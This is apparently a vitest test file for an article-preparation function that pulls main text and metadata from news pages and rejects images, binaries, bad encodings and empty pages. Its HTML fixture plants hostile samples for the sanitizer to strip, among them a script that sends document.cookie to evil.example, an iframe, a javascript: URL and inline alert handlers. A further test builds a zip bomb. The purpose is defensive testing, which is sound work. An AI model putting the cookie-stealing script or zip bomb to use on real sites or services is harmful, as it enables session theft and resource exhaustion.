import { deflateRawSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { prepareArticle } from "./prepare-article";

const bytes = (text: string) => new TextEncoder().encode(text);
const LIMIT = 5 * 1024 * 1024;

const PAGE = `<!DOCTYPE html>
<html lang="en"><head>
<title>Flood toll rises | Riverside Gazette</title>
<meta property="og:title" content="Flood toll rises to 17 in the valley">
<meta property="og:site_name" content="Riverside Gazette">
<meta property="article:published_time" content="2024-09-15T08:00:00Z">
<link rel="canonical" href="https://gazette.example/flood-toll">
<style>body { background: url(javascript:alert(1)) } .x::after { content: "STYLE TEXT" }</style>
<script>document.write("SCRIPT TEXT"); fetch("https://evil.example/steal?c=" + document.cookie)</script>
</head><body onload="alert('HANDLER')">
<nav><a href="/">Home</a> <a href="/news">News</a></nav>
<article>
<h1 onclick="alert('CLICK')">Flood toll rises to 17 in the valley</h1>
<p>Rescue services said on Sunday that 17 people had died after the river burst its banks, and that about 2,000 homes were without power across the region.</p>
<iframe src="https://evil.example/frame">IFRAME TEXT</iframe>
<p>The regional government put the number of people evacuated at 3,500, while the mayor said at least 4,000 had left their homes since Friday evening.</p>
<script>alert("INLINE SCRIPT")</script>
<p>Forecasters expect more rain on Tuesday, and the army has sent 300 soldiers to help with the clean-up in the worst-hit villages.</p>
<noscript>NOSCRIPT TEXT</noscript>
</article>
<footer>© Riverside Gazette</footer>
</body></html>`;

describe("prepareArticle", () => {
  it("takes a page's main text, never its scripts, styles, frames or handlers, and its own metadata marked as given by the page", () => {
    const result = prepareArticle("flood.txt", bytes(PAGE), {}, LIMIT);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const { article } = result;
    expect(article.text).toContain("17 people had died");
    expect(article.text).toContain("300 soldiers");
    for (const hostile of ["SCRIPT", "STYLE TEXT", "IFRAME TEXT", "NOSCRIPT", "alert", "evil.example", "<", "onclick"]) expect(article.text).not.toContain(hostile);
    expect(article).toMatchObject({
      title: "Flood toll rises to 17 in the valley",
      publisher: "Riverside Gazette",
      url: "https://gazette.example/flood-toll",
      published: "2024-09-15",
      dateSource: "given",
      dateNote: "given by the page (the page's published-time metadata)",
      metadataNote: "title, publisher, date, address given by the page's own metadata",
      language: "en",
    });
  });

  it("lets the person's metadata win over the page's", () => {
    const result = prepareArticle("flood.html", bytes(PAGE), { title: "My title", publisher: "Wire", published: "2024-09-16" }, LIMIT);
    expect(result.ok && result.article).toMatchObject({ title: "My title", publisher: "Wire", published: "2024-09-16", dateSource: "given", metadataNote: "address given by the page's own metadata" });
  });

  it("infers the date of a plain text from its dateline, and says so", () => {
    const result = prepareArticle("a.txt", bytes("GENEVA, 3 March 2025 (AFP) - The agency said 40,000 people had fled the fighting in the east."), {}, LIMIT);
    expect(result.ok && result.article).toMatchObject({ published: "2025-03-03", dateSource: "inferred", dateNote: 'from the dateline "GENEVA, 3 March 2025"', metadataNote: null });
  });

  it("stores an article in another language with its language, for no extraction", () => {
    const result = prepareArticle("de.txt", bytes("Nach Angaben der Polizei nahmen etwa 12.000 Menschen an der Demonstration in der Innenstadt teil, die Veranstalter sprachen von mehr als 40.000."), {}, LIMIT);
    expect(result.ok && result.article.language).toBe("de");
  });

  it.each([
    ["a picture renamed .txt", new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]), /^file is a PNG image, not text/],
    ["a zip bomb renamed .html", new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0, ...deflateRawSync(Buffer.alloc(10 * 1024 * 1024))]), /^file is a ZIP archive/],
    ["binary junk renamed .txt", new Uint8Array([0x01, 0x02, 0x03, 0x00, 0x9a, 0xfe, 0x10, 0x11, 0x00, 0x05]), /looks binary/],
    ["Latin-1 text", new Uint8Array([0x43, 0x72, 0xe9, 0x74, 0x65, 0x20, 0x64, 0x65, 0x20, 0x6c, 0x61]), /not valid UTF-8/],
    ["a page with no text", bytes("<!doctype html><html><body><script>alert(1)</script><div></div></body></html>"), /no article text/],
  ])("refuses %s in words", (_what, input, reason) => {
    const result = prepareArticle("x.txt", input, {}, LIMIT);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.reason).toMatch(reason);
  });
});
